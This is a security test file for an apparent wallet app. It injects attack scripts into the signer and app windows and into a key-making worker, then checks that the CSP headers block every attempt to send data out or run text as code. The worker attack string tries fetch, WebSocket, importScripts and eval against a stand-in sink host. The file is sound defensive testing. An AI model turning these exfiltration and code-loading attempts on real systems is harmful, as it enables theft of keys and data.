/**
 * E-11, E-12, E-14, E-15: a script inside either window gets nothing out and nothing in. Names and addresses outside are
 * open here as far as the test goes; what closes them again is the app's own doing.
 */
import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import type { Page } from 'playwright';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { ada } from './story/people.ts';
import { Wallet } from './story/wallet.ts';
import { compromisePage, compromiseWorker } from './world/built-app.ts';
import { openSink, type Sink } from './world/sink.ts';
import { World } from './world/world.ts';

const script = new URL('./hostile/page-attacks.ts', import.meta.url);

interface Compromised {
  readonly compromised: {
    readonly attack: (name: string, target: object) => Promise<string>;
    readonly attackNames: readonly string[];
    readonly violations: string[];
    readonly ran: readonly string[];
  };
}

/** Every attack of the script with what it must come to. */
const expected = {
  fetch: /^(TypeError,?)+$/,
  fetchOwnFile: /^threw TypeError$/,
  xhr: /^(refused,?)+$/,
  webSocket: /^(refused,?)+$/,
  eventSource: /^(refused,?)+$/,
  beacon: /^(queued|false|,)+$/,
  image: /^(refused,?)+$/,
  styleSheet: /^(refused,?)+$/,
  inlineStyleImage: /^(set,?)+$/,
  font: /^(NetworkError,?)+$/,
  script: /^(TypeError,?)+$/,
  importedModule: /^(TypeError,?)+$/,
  prefetch: /^(refused,?)+$/,
  preload: /^(refused,?)+$/,
  modulePreload: /^(refused,?)+$/,
  preconnect: /^(silent,?)+$/,
  dnsPrefetch: /^(silent,?)+$/,
  iframe: /^(tried,?)+$/,
  objectTag: /^(TypeError,?)+$/,
  media: /^(refused,?)+$/,
  form: /^(stayed,?)+$/,
  popup: /^(refused|opened|,)+$/,
  anchorPing: /^(clicked,?)+$/,
  webRtc: /^no way out$/,
  webTransport: /^(TypeError|WebTransportError|Silent|,)+$/,
  blobWorker: /^threw TypeError$/,
  foreignWorker: /^threw TypeError$/,
  sharedWorker: /^threw (TypeError|SecurityError)$/,
  serviceWorker: /^threw (TypeError|SecurityError|NotSupportedError|InvalidStateError)$/,
  eval: /^threw EvalError$/,
  newFunction: /^threw EvalError$/,
  stringTimer: /^(threw TypeError|refused)$/,
  inlineScript: /^(threw TypeError|refused)$/,
  inlineHandler: /^(threw TypeError|refused)$/,
  javascriptUrl: /^refused$/,
  innerHtml: /^threw TypeError$/,
  trustedTypesPolicy: /^threw TypeError$/,
  camera: /^threw (NotAllowedError|NotFoundError|TypeError)$/,
  microphone: /^threw (NotAllowedError|NotFoundError|TypeError)$/,
  screenCapture: /^(silent|threw \w+)$/,
  clipboardRead: /^threw (NotAllowedError|TypeError)$/,
  geolocation: /^threw (GeolocationPositionError|TypeError|undefined)$/,
  notification: /^(denied|threw TypeError)$/,
} as const;

/** Directives that must have been reported for the attacks the CSP itself refuses. */
const directives: Readonly<Partial<Record<keyof typeof expected, RegExp>>> = {
  fetch: /connect-src/,
  xhr: /connect-src/,
  webSocket: /connect-src/,
  eventSource: /connect-src/,
  beacon: /connect-src/,
  image: /img-src/,
  styleSheet: /style-src/,
  inlineStyleImage: /img-src/,
  font: /font-src/,
  importedModule: /script-src/,
  prefetch: /default-src|prefetch-src/,
  preload: /connect-src/,
  modulePreload: /script-src/,
  iframe: /frame-src/,
  media: /media-src/,
  form: /form-action/,
  eval: /script-src|trusted-types-for/,
  newFunction: /script-src|trusted-types-for/,
  inlineScript: /script-src|trusted-types-for/,
  javascriptUrl: /script-src|trusted-types-for/,
  innerHtml: /trusted-types-for/,
  trustedTypesPolicy: /trusted-types/,
};

/** As E-11 has it, word for word. */
const appPolicy = [
  "default-src 'none'",
  "script-src 'self'",
  "style-src 'self'",
  "img-src 'self' data: blob:",
  "font-src 'self'",
  "connect-src 'none'",
  "media-src 'none'",
  "worker-src 'self'",
  "frame-src 'none'",
  "object-src 'none'",
  "base-uri 'none'",
  "form-action 'none'",
  "frame-ancestors 'none'",
  "require-trusted-types-for 'script'",
  "trusted-types 'none'",
] as const;
const signerPolicy = appPolicy.map((directive) =>
  directive === "script-src 'self'"
    ? "script-src 'self' 'wasm-unsafe-eval'"
    : directive === "trusted-types 'none'"
      ? 'trusted-types signer-worker'
      : directive,
);

function listedFiles(kind: 'signer' | 'app'): readonly string[] {
  const list = JSON.parse(readFileSync(join(world.built.appRoot, 'out/files.json'), 'utf8')) as Record<string, object>;
  return Object.keys(list[kind === 'app' ? 'wallet' : 'signer'] ?? {});
}

/** Tries every way a worker has, says that it did, and never fails. */
const workerAttack = (url: string): string => `
  const tries = [
    () => fetch('${url}/worker').catch(() => {}),
    () => new WebSocket('${url.replace('http', 'ws')}'),
    () => new EventSource('${url}/worker'),
    () => importScripts('${url}/worker.js'),
    () => import('${url}/worker.js').catch(() => {}),
    () => new Worker('${url}/worker.js'),
    () => (0, eval)('console.log("evaluated in the worker")'),
  ];
  for (const attempt of tries) { try { attempt(); } catch {} }
  console.log('the worker has tried');
`;

/** Ways out of the page itself: afterwards the page may have been put back where it was. */
const departures = ['navigation', 'metaRefresh'] as const;

const workerSaid: string[] = [];

let world: World;
let wallet: Wallet;
let sink: Sink;

beforeAll(async () => {
  sink = await openSink();
  world = await World.start({
    launch: { chromiumArguments: ['--host-resolver-rules=MAP *.stranger.test 127.0.0.1'] },
    prepare: (built) => {
      compromisePage(built, 'signer', script);
      compromisePage(built, 'wallet', script);
      compromiseWorker(built, workerAttack(sink.url));
    },
  });
  wallet = new Wallet(world);
});
afterAll(async () => {
  await sink.close();
  await world.end();
});

const targetOf = (name: string) => ({
  sink: sink.url,
  named: sink.url.replace('127.0.0.1', `${name.toLowerCase()}.stranger.test`),
});

async function attack(page: Page, name: string): Promise<{ outcome: string; violations: readonly string[] }> {
  await page.evaluate(() => (globalThis as unknown as Compromised).compromised.violations.splice(0));
  const outcome = await page.evaluate(
    ([which, target]) => (globalThis as unknown as Compromised).compromised.attack(which, target),
    [name, targetOf(name)] as const,
  );
  const violations = await page.evaluate(() => (globalThis as unknown as Compromised).compromised.violations);
  return { outcome, violations };
}

const pages = {
  signer: async () => (await wallet.signer()).page,
  app: async () => (await wallet.window()).page,
} as const;

describe.each(['signer', 'app'] as const)('a compromised %s window', (kind) => {
  let page: Page;

  beforeAll(async () => {
    if (kind === 'app') {
      // What was done to the signer is over: a fresh one opens the account.
      await world.close();
      await world.launch();
      const { page: signer } = await wallet.signer();
      signer.on('console', (message) => workerSaid.push(message.text()));
      await wallet.signIn(ada.credentials);
    }
    page = await pages[kind]();
    await page.waitForFunction(() => 'compromised' in globalThis);
  });

  it('E-12: knows of no attack that is not tried here', async () => {
    const names = await page.evaluate(() => (globalThis as unknown as Compromised).compromised.attackNames);
    expect([...names].sort()).toEqual([...Object.keys(expected), ...departures].sort());
  });

  it.each(Object.keys(expected) as (keyof typeof expected)[])('E-12: %s', async (name) => {
    const before = sink.visits.length;
    const { outcome, violations } = await attack(page, name);
    expect(outcome).toMatch(expected[name]);
    const directive = directives[name];
    if (directive !== undefined) expect(violations.join()).toMatch(directive);
    expect(sink.visits.slice(before)).toEqual([]);
  });

  it('E-12: ran nothing that was text', async () => {
    expect(await page.evaluate(() => (globalThis as unknown as Compromised).compromised.ran)).toEqual([]);
  });

  it.each(departures)('E-14: %s leads nowhere', async (name) => {
    const before = sink.visits.length;
    const where = page.url();
    await page
      .evaluate(([which, target]) => void (globalThis as unknown as Compromised).compromised.attack(which, target), [
        name,
        targetOf(name),
      ] as const)
      // The page may be put back while it answers.
      .catch(() => {});
    await page.waitForTimeout(1_000);
    await page.waitForURL(where);
    await page.getByRole('main').waitFor();
    expect(sink.visits.slice(before)).toEqual([]);
  });

  it('E-11: gets the policy and its companions with every file, and with refusals', async () => {
    const policy = kind === 'signer' ? signerPolicy : appPolicy;
    const unlisted = '/not-on-the-list.js';
    // An image may come from the window's own origin, so every file can be asked for as one.
    const ask = (path: string) =>
      page.evaluate((file) => {
        new Image().src = file;
      }, path);
    if (kind === 'signer') {
      // E-23: the filter of its partition cancels what is not on the list.
      const cancelled = page.waitForEvent('requestfailed', (request) => request.url().endsWith(unlisted));
      await ask(unlisted);
      await cancelled;
    }
    for (const path of [...listedFiles(kind), ...(kind === 'app' ? [unlisted] : [])]) {
      const response = page.waitForResponse(new URL(path, page.url()).href);
      await ask(path);
      const headers = await (await response).allHeaders();
      expect(headers, path).toMatchObject({
        'content-security-policy': policy.join('; '),
        'x-content-type-options': 'nosniff',
        'referrer-policy': 'no-referrer',
        'cross-origin-opener-policy': 'same-origin',
        'cross-origin-resource-policy': 'same-origin',
      });
    }
  });

  it('E-14: has opened no window', async () => {
    const windows = await world.app().windows();
    expect(windows.filter(({ kind: opened }) => opened === 'other')).toEqual([]);
  });
});

it('E-11: the worker that makes the keys obeys a policy of its own', () => {
  expect(workerSaid).toContain('the worker has tried');
  expect(workerSaid.join('\n')).not.toContain('evaluated');
  expect(sink.visits).toEqual([]);
});
